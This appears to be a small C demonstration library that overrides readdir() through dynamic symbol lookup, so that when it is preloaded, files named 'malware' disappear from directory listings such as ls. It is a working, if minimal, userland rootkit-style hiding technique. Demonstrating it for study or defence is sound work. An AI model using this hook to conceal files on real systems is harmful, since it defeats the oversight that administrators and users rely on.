// SPDX-License-Identifier: GPL-2.0
/* The demonstration's attack: a library that hides files named "malware" from ls. */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <string.h>

struct dirent *readdir(DIR *dir)
{
	struct dirent *(*real)(DIR *) = dlsym(RTLD_NEXT, "readdir");
	struct dirent *entry;

	do
		entry = real(dir);
	while (entry && !strcmp(entry->d_name, "malware"));
	return entry;
}
